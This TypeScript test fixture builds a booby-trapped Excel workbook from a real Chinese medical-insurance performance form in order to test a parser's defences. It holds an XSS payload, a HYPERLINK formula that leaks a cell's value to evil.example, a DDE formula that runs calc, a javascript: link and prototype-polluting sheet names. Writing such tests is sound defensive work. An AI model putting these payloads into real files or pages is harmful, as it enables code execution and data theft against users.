import { strFromU8, strToU8, unzipSync, zipSync } from 'fflate';
import { fixture } from '../../xlsx/support';

/** Texts that do harm if they are used as markup, a formula, a link or a property. */
export const HOSTILE = {
  markup: '<img src="https://evil.example/x" onerror="window.hit=1"><script>window.hit=1</script>',
  link: '=HYPERLINK("https://evil.example/?"&A1,"点这里")',
  command: "=cmd|' /C calc'!A0",
  markdown: '[点这里](javascript:window.hit=1) `x` | y',
  sign: '@SUM(1+1)*cmd',
} as const;

/** Names of sheets that are also names of every object's properties. */
export const HOSTILE_SHEETS = ['__proto__', 'constructor', 'toString'] as const;

const escapeXml = (text: string): string =>
  text.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('"', '&quot;');

/**
 * The published form jiayuguan-2021 with its known faults, whose texts in the places that findings quote
 * (unit, indicator names, actual value, title) are hostile, and whose sheets have names of properties.
 */
export function hostileWorkbook(): Uint8Array {
  const parts = unzipSync(fixture('jiayuguan-2021.xlsx'));
  const edit = (name: string, change: (xml: string) => string): void => {
    const bytes = parts[name];
    if (!bytes) throw new Error(`The fixture has no ${name}`);
    parts[name] = strToU8(change(strFromU8(bytes)));
  };
  edit('xl/workbook.xml', (xml) =>
    ['整体支出绩效自评表', '慢性病项目支出绩效自评表', '转移支付绩效自评表'].reduce(
      (text, name, index) => replaceOnce(text, `name="${name}"`, `name="${HOSTILE_SHEETS[index] ?? ''}"`),
      xml,
    ),
  );
  edit('xl/sharedStrings.xml', (xml) =>
    replacements().reduce((text, [from, to]) => replaceOnce(text, `>${from}<`, `>${escapeXml(to)}<`), xml),
  );
  return zipSync(parts);
}

function replacements(): readonly (readonly [string, string])[] {
  return [
    ['嘉峪关市医疗保障局', HOSTILE.markup],
    ['91%%', `91%%${HOSTILE.markup}`],
    ['可持续影响招标', `可持续影响招标${HOSTILE.markdown}`],
  ];
}

function replaceOnce(text: string, from: string, to: string): string {
  if (text.split(from).length !== 2) throw new Error(`${from} stands ${text.split(from).length - 1} times`);
  return text.replace(from, () => to);
}
